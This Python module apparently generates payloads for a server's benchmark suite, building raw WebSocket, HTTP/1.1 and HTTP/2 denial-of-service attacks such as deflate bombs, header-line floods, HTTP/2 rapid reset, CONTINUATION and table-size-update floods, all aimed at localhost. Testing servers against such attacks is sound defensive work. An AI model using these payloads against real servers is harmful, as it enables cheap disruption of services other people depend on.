"""The bytes of attacks that cost a server much and the attacker little.

Pure functions of the standard library, for benchmarks/attacks.py. They know nothing of the package.
"""

from __future__ import annotations

import base64
import struct
import zlib

PACKET = 256 * 1024
"""About what one read from a socket takes: payloads that are sent again and again have this size."""
BOMB_SIZE = 15_000_000
"""Bytes of an inflated message: less than the limits of the servers, which are 16 MiB."""
BOMBS_BYTES = 250_000
LINES = 200_000
UPDATES = 250_000
STREAMS = 20_000
ONE_BYTE_FRAMES = 60_000
"""Fewer than the flow-control windows that a server opens by default (65,535)."""

# WebSocket (RFC 6455).

CONTINUATION, TEXT, BINARY, PING = 0x0, 0x1, 0x2, 0x9
FIN, COMPRESSED = 0x80, 0x40
MASK = bytes(4)
"""A legal key, which changes nothing."""


def handshake(deflate: bool = False) -> bytes:
    """The request that opens a WebSocket, with an offer of permessage-deflate or without."""
    key = base64.b64encode(bytes(range(16))).decode()
    extension = "Sec-WebSocket-Extensions: permessage-deflate\r\n" if deflate else ""
    return (
        "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n{extension}\r\n"
    ).encode()


def frame(first: int, payload: bytes = b"") -> bytes:
    """A client's frame, of its first byte and its payload."""
    size = len(payload)
    if size < 126:
        head = struct.pack(">BB", first, 0x80 | size)
    elif size < 65536:
        head = struct.pack(">BBH", first, 0x80 | 126, size)
    else:
        head = struct.pack(">BBQ", first, 0x80 | 127, size)
    return head + MASK + payload


def deflated(size: int = BOMB_SIZE) -> bytes:
    """A message of `size` zeros, compressed without its last four bytes (RFC 7692, 7.2.1)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = compressor.compress(bytes(size)) + compressor.flush(zlib.Z_SYNC_FLUSH)
    return data.removesuffix(b"\x00\x00\xff\xff")


def bombs() -> bytes:
    """As many deflate bombs as there are in 250 KB."""
    bomb = frame(FIN | COMPRESSED | BINARY, deflated())
    return bomb * (BOMBS_BYTES // len(bomb))


def unfinished_bomb() -> bytes:
    """The first fragment of a compressed message, whose last one never comes."""
    return frame(COMPRESSED | BINARY, deflated())


def pings() -> bytes:
    return _packet(frame(FIN | PING))


def fragments() -> bytes:
    """Empty fragments, to be sent after `first_fragment`."""
    return _packet(frame(CONTINUATION))


def first_fragment(compressed: bool = False) -> bytes:
    return frame(TEXT | (COMPRESSED if compressed else 0))


# HTTP/1.1.


def get(path: str = "/") -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode()


def many_lines() -> bytes:
    """A head with very many field lines."""
    return b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n" + b"a:\r\n" * LINES + b"\r\n"


def pipelined() -> bytes:
    return _packet(get())


def chunked_head(path: str) -> bytes:
    return f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n".encode()


def one_byte_chunks() -> bytes:
    """To be sent after `chunked_head`."""
    return _packet(b"1\r\nx\r\n")


def long_head(path: str, size: int) -> bytes:
    """The head of a request whose body has `size` bytes."""
    return f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: {size}\r\n\r\n".encode()


# HTTP/2 (RFC 9113).

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, H2_PING, H2_CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
MAX_FRAME = 16384
AUTHORITY = b"\x01\x09127.0.0.1"
"""A literal field with the name of the static table's first entry (RFC 7541, 6.2.2)."""
GET_BLOCK = b"\x82\x86\x84" + AUTHORITY
"""``:method: GET``, ``:scheme: http`` and ``:path: /`` of the static table."""
FIELD = b"\x00\x01a\x01b"
"""The field ``a: b``, without indexing."""


def post_block(path: bytes) -> bytes:
    return b"\x83\x86\x04" + bytes([len(path)]) + path + AUTHORITY


def h2_frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def h2_opening() -> bytes:
    """The preface of a client, with empty settings."""
    return PREFACE + h2_frame(SETTINGS, 0, 0)


def one_byte_data() -> bytes:
    """A request whose body comes in DATA frames of one byte, and does not end."""
    head = h2_frame(HEADERS, END_HEADERS, 1, post_block(b"/count"))
    return head + h2_frame(DATA, 0, 1, b"x") * ONE_BYTE_FRAMES


def table_size_updates() -> bytes:
    """A request whose field block begins with very many updates of the table's size."""
    block = b"\x20" * UPDATES + GET_BLOCK
    parts = [block[at : at + MAX_FRAME] for at in range(0, len(block), MAX_FRAME)]
    frames = [h2_frame(HEADERS, END_STREAM, 1, parts[0])]
    frames += [h2_frame(H2_CONTINUATION, 0, 1, part) for part in parts[1:-1]]
    return b"".join([*frames, h2_frame(H2_CONTINUATION, END_HEADERS, 1, parts[-1])])


def rapid_reset() -> bytes:
    """Requests, each cancelled at once."""
    cancel = struct.pack(">I", 8)
    return b"".join(
        h2_frame(HEADERS, END_STREAM | END_HEADERS, stream, GET_BLOCK)
        + h2_frame(RST_STREAM, 0, stream, cancel)
        for stream in range(1, 2 * STREAMS, 2)
    )


def unfinished_block() -> bytes:
    """The first frame of a field block, for `continuations` to follow."""
    return h2_frame(HEADERS, END_STREAM, 1, GET_BLOCK)


def continuations() -> bytes:
    """CONTINUATION frames of one field each, none of which is the last."""
    return _packet(h2_frame(H2_CONTINUATION, 0, 1, FIELD))


def h2_settings() -> bytes:
    """SETTINGS, each of which asks for an acknowledgement."""
    return _packet(h2_frame(SETTINGS, 0, 0))


def h2_pings() -> bytes:
    return _packet(h2_frame(H2_PING, 0, 0, bytes(8)))


def _packet(unit: bytes) -> bytes:
    """As many whole units as there are in one packet."""
    return unit * (PACKET // len(unit))
